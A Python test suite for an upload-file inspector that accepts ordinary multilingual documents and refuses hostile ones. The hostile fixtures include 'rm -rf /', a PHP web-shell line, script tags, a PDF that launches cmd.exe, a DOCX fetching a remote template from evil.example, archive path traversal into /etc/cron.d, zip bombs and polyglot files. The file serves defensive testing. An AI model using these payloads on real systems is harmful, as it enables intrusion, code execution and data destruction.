"""Honest files pass, hostile ones do not, each with its reason."""

from __future__ import annotations

import struct
import tracemalloc
import zipfile

import pytest

from expertise.files.inspection import KINDS, inspect
from expertise.files.signature import EICAR
from expertise.files.verdict import PROBLEMS, AcceptedFile
from workflows.refusals import Problem

XML = '<?xml version="1.0"?>'
REMOTE = '<Relationship Type="http://x/attachedTemplate" Target="{}" TargetMode="External"/>'
LINK = '<Relationship Type="http://x/hyperlink" Target="https://example.kz/" TargetMode="External"/>'


@pytest.fixture
def judge(tmp_path):
    def judged(name, content):
        path = tmp_path / "content"
        path.write_bytes(content)
        return inspect(path, name, len(content))

    return judged


HONEST = {
    "pdf": ("отчёт.pdf", lambda make: make.pdf()),
    "pdf of 300 kB": ("report.PDF", lambda make: make.pdf(b"stream" * 50_000)),
    "pdf that only speaks of archives": ("zip.pdf", lambda make: make.pdf(b"PK\x03\x04 is how a ZIP begins")),
    "docx": ("өтінім.docx", lambda make: make.office("docx")),
    "docx with a chart": (
        "chart.docx",
        lambda make: make.office("docx", {"word/embeddings/Table1.xlsx": make.office("xlsx")}),
    ),
    "docx with an equation": (
        "eq.docx",
        lambda make: make.office("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
    ),
    "docx with links": ("links.docx", lambda make: make.office("docx", {"word/_rels/document.xml.rels": LINK})),
    "docx with a local template": (
        "local.docx",
        lambda make: make.office("docx", {"word/_rels/settings.xml.rels": REMOTE.format("file:///C:/Normal.dotm")}),
    ),
    "docx with a picture": ("picture.docx", lambda make: make.office("docx", {"word/media/image1.png": make.png()})),
    "xlsx": ("бюджет 2026.xlsx", lambda make: make.office("xlsx")),
    "xlsx of 8 MB packed well": (
        "large.xlsx",
        lambda make: make.office("xlsx", {"xl/worksheets/sheet1.xml": "<row><c>0</c></row>" * 420_000}),
    ),
    "pptx": ("slides.pptx", lambda make: make.office("pptx")),
    "odt": ("letter.odt", lambda make: make.open_document("text")),
    "ods": ("table.ods", lambda make: make.open_document("spreadsheet")),
    "png": ("map.png", lambda make: make.png()),
    "jpg": ("photo.jpg", lambda make: make.jpeg()),
    "jpeg with what a camera adds": ("photo.jpeg", lambda make: make.jpeg(b"SEFT" + b"\0" * 40)),
    "text in Kazakh": ("қазақша.txt", lambda make: "Әәғқңөұүһі\r\n".encode() * 20_000),
    "text in an old code page": ("старый.txt", lambda make: "Отчёт о поездке\r\n".encode("cp1251") * 999),
    "text in UTF-16": ("excel.txt", lambda make: "Ә\tБ\r\n".encode("utf-16")),
    "text about pages": ("notes.txt", lambda make: b"The tag <html> begins a page.\n<b>bold</b>"),
    "csv with its mark": ("data.csv", lambda make: "\ufeffөңір;сома\r\nКызылорда;-5\r\n".encode()),
    "csv of one letter over two pieces": ("edge.csv", lambda make: b"x" * (64 * 1024 - 1) + "Ә".encode()),
    "name with three dots": ("Отчёт v1.2 (итог).pdf", lambda make: make.pdf()),
}

HOSTILE = {
    "nothing": ("report.pdf", lambda make: b"", "file_empty"),
    "program": ("tool.exe", lambda make: make.exe, "file_type"),
    "program as pdf": ("report.pdf", lambda make: make.exe, "file_content"),
    "program as docx": ("report.docx", lambda make: make.exe, "file_content"),
    "program as text": ("report.txt", lambda make: make.exe, "file_content"),
    "program behind a second ending": ("report.pdf.exe", lambda make: make.exe, "file_type"),
    "program before a second ending": ("report.exe.pdf", lambda make: make.pdf(), "file_type"),
    "program whose name is turned round": ("report\u202efdp.exe", lambda make: make.exe, "file_type"),
    "page": ("page.html", lambda make: b"<html>", "file_type"),
    "page as text": ("page.txt", lambda make: b"\xef\xbb\xbf \n<!DOCTYPE html><script>", "file_content"),
    "page as csv": ("page.csv", lambda make: b"<script>alert(1)</script>", "file_content"),
    "page as pdf": ("page.pdf", lambda make: make.pdf().replace(b"1 0 obj", b"<script>x</script>"), "file_hidden"),
    "page in a photo": ("photo.jpg", lambda make: make.jpeg(b"<script>alert(1)</script>\xff\xd9"), "file_hidden"),
    "svg with a script": ("picture.svg", lambda make: b"<svg><script/></svg>", "file_type"),
    "svg as png": ("picture.png", lambda make: b"<svg><script/></svg>", "file_content"),
    "shell script as text": ("run.txt", lambda make: b"#!/bin/sh\nrm -rf /", "file_content"),
    "php as text": ("x.csv", lambda make: b"<?php system($_GET[1]);", "file_content"),
    "NUL in a text": ("x.txt", lambda make: b"a\0b", "file_content"),
    "escape sequences in a text": ("x.csv", lambda make: b"a;\x1b[2J", "file_content"),
    "late control in a text": ("x.txt", lambda make: b"a" * 200_000 + b"\x07", "file_content"),
    "half a letter": ("x.txt", lambda make: "Ә".encode("utf-16")[:-1], "file_content"),
    "zip": ("all.zip", lambda make: make.archive({"a": "b"}), "file_type"),
    "zip as docx": ("all.docx", lambda make: make.archive({"a": "b"}), "file_content"),
    "pdf and zip in one": ("both.pdf", lambda make: make.pdf(after=make.archive({"a.exe": "b"})), "file_hidden"),
    "pdf and docx in one": ("both.docx", lambda make: make.pdf() + make.office(), "file_content"),
    "photo and zip in one": ("both.jpg", lambda make: make.jpeg(make.archive({"a": "b"})), "file_hidden"),
    "png and zip in one": ("both.png", lambda make: make.png(after=make.archive({"a": "b"})), "file_hidden"),
    "docx with something before it": ("x.docx", lambda make: b"PK\x03\x04" + make.office(), "file_hidden"),
    "docx with something after it": ("x.docx", lambda make: make.office() + b"MZ" * 20, "file_hidden"),
    "docx with a comment for cover": (
        "x.docx",
        lambda make: make.office()[:-2] + struct.pack("<H", 4) + b"MZMZ",
        "file_hidden",
    ),
    "pdf with a script": ("x.pdf", lambda make: make.pdf(b"<</S /JavaScript /JS (app.alert(1))>>"), "file_macros"),
    "pdf that starts a program": (
        "x.pdf",
        lambda make: make.pdf(b"x" * 65_500 + b"<</S /Launch /F (cmd.exe)>>"),
        "file_macros",
    ),
    "pdf cut off": ("x.pdf", lambda make: make.pdf()[:-10], "file_damaged"),
    "docx as xlsx": ("x.xlsx", lambda make: make.office("docx"), "file_content"),
    "xlsx as docx": ("x.docx", lambda make: make.office("xlsx"), "file_content"),
    "odt as ods": ("x.ods", lambda make: make.open_document("text"), "file_content"),
    "docm": ("x.docm", lambda make: make.office(), "file_type"),
    "docx with macros": ("x.docx", lambda make: make.office("docx", {"word/vbaProject.bin": b"x"}), "file_macros"),
    "docx with macros declared": (
        "x.docx",
        lambda make: make.office("docx", types='<Default ContentType="application/vnd.ms-word.macroEnabled.main"/>'),
        "file_macros",
    ),
    "xlsx with old macros": (
        "x.xlsx",
        lambda make: make.office("xlsx", {"xl/macrosheets/sheet1.xml": XML}),
        "file_macros",
    ),
    "docx with controls": (
        "x.docx",
        lambda make: make.office("docx", {"word/activeX/activeX1.xml": XML}),
        "file_macros",
    ),
    "odt with macros": ("x.odt", lambda make: make.open_document("text", {"Basic/Standard/M.xml": XML}), "file_macros"),
    "docx that fetches its template": (
        "x.docx",
        lambda make: make.office(
            "docx", {"word/_rels/settings.xml.rels": REMOTE.format("https://evil.example/t.dotm")}
        ),
        "file_macros",
    ),
    "docx with a program": ("x.docx", lambda make: make.office("docx", {"word/media/a.exe": make.exe}), "file_hidden"),
    "docx with a program in disguise": (
        "x.docx",
        lambda make: make.office("docx", {"word/media/image1.png": make.exe}),
        "file_hidden",
    ),
    "docx with an archive": (
        "x.docx",
        lambda make: make.office("docx", {"word/media/image1.emf": make.archive({"a": "b"})}),
        "file_hidden",
    ),
    "docx with a packed file": (
        "x.docx",
        lambda make: make.office("docx", {"word/embeddings/o.bin": "Ole10Native".encode("utf-16-le")}),
        "file_hidden",
    ),
    "docx with entities": (
        "x.docx",
        lambda make: make.office("docx", {"word/styles.xml": XML + '<!DOCTYPE x [<!ENTITY a "b">]>'}),
        "file_hidden",
    ),
    "docx with entities in UTF-16": (
        "x.docx",
        lambda make: make.office("docx", {"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]>'.encode("utf-16")}),
        "file_hidden",
    ),
    "docx that climbs out": ("x.docx", lambda make: make.office("docx", {"../../etc/cron.d/x": b"x"}), "file_hidden"),
    "docx with a part from the root": ("x.docx", lambda make: make.office("docx", {"/etc/x": b"x"}), "file_hidden"),
    "docx that is a bomb": (
        "x.docx",
        lambda make: make.office("docx", {"word/media/a.bmp": b"\0" * 30_000_000}),
        "file_bomb",
    ),
    "docx of many small bombs": (
        "x.docx",
        lambda make: make.office("docx", {f"word/media/{n}.bmp": b"\0" * 3_000_000 for n in range(10)}),
        "file_bomb",
    ),
    "docx of 5,001 parts": (
        "x.docx",
        lambda make: make.office("docx", {f"p/{n}": b"" for n in range(5_001)}),
        "file_bomb",
    ),
    "docx whose parts overlap": ("x.docx", lambda make: overlapping(make.office("docx")), "file_bomb"),
    "docx that lies about a size": ("x.docx", lambda make: lying(make.office("docx")), "file_damaged"),
    "docx with one name twice": (
        "x.docx",
        lambda make: twice(make.office("docx", {"word/a.xml": XML, "word/b.xml": XML})),
        "file_damaged",
    ),
    "docx behind a password": ("x.docx", lambda make: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_locked"),
    "docx with locked parts": ("x.docx", lambda make: locked(make.office("docx")), "file_locked"),
    "odt behind a password": (
        "x.odt",
        lambda make: make.open_document("text", {"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        "file_locked",
    ),
    "docx cut off": ("x.docx", lambda make: make.office("docx")[:-30], "file_damaged"),
    "docx with a rotten part": ("x.docx", lambda make: rotten(make.office("docx")), "file_damaged"),
    "docx packed strangely": (
        "x.docx",
        lambda make: make.archive({"[Content_Types].xml": "wordprocessingml.document.main+xml"}, zipfile.ZIP_LZMA),
        "file_damaged",
    ),
    "text that is the scanners' test": ("x.txt", lambda make: EICAR, "file_virus"),
    "png that claims to be huge": ("x.png", lambda make: make.png(60_000, 60_000), "file_bomb"),
    "png cut off": ("x.png", lambda make: make.png()[:-14], "file_damaged"),
    "png that is only its first bytes": ("x.png", lambda make: make.png()[:20], "file_damaged"),
    "jpeg cut off": ("x.jpg", lambda make: make.jpeg()[:-2], "file_damaged"),
    "no ending": ("report", lambda make: make.pdf(), "file_type"),
    "only an ending": (".pdf", lambda make: make.pdf(), "file_type"),
    "no name": ("", lambda make: make.pdf(), "file_type"),
}


def directory_entry(content, number):
    place = struct.unpack("<L", content[-6:-2])[0]
    for _ in range(number):
        name, extra, comment = struct.unpack("<3H", content[place + 28 : place + 34])
        place += 46 + name + extra + comment
    return place


def patched(content, place, new):
    return content[:place] + new + content[place + len(new) :]


def overlapping(content):
    first, second = directory_entry(content, 0), directory_entry(content, 2)
    return patched(content, second + 42, content[first + 42 : first + 46])


def lying(content):
    return patched(content, directory_entry(content, 2) + 24, struct.pack("<L", 5))


def twice(content):
    return content.replace(b"word/b.xml", b"word/a.xml")


def locked(content):
    return patched(content, directory_entry(content, 2) + 8, struct.pack("<H", 1))


def rotten(content):
    place = content.index(b"word/document.xml") + len(b"word/document.xml")
    return patched(content, place + 5, b"\xff\x00\xff\x00")


@pytest.mark.parametrize("kind", HONEST)
def test_honest_file_passes(judge, make, kind):
    name, content = HONEST[kind]
    verdict = judge(name, content(make))
    assert isinstance(verdict, AcceptedFile), verdict
    assert verdict.clean_name.casefold() == name.casefold()
    assert verdict.media_type == KINDS[name.rpartition(".")[2].lower()][0]


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_file_is_refused_with_its_reason(judge, make, kind):
    name, content, code = HOSTILE[kind]
    assert judge(name, content(make)) == Problem(code)
    assert code in PROBLEMS


def test_every_problem_has_its_example():
    assert {code for _, _, code in HOSTILE.values()} == set(PROBLEMS)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("large.txt", lambda make: "Қазақстан ".encode() * 1_200_000),
        ("large.pdf", lambda make: make.pdf(b"0123456789abcdef" * 1_200_000)),
        ("large.xlsx", lambda make: make.office("xlsx", {"xl/worksheets/sheet1.xml": "<row><c>0</c></row>" * 800_000})),
        ("bomb.docx", lambda make: make.office("docx", {"word/media/a.bmp": b"\0" * 30_000_000})),
    ],
)
def test_memory_does_not_grow_with_the_file(tmp_path, make, name, content):
    path = tmp_path / "content"
    path.write_bytes(content(make))
    tracemalloc.start()
    try:
        inspect(path, name, path.stat().st_size)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 * 1024 * 1024
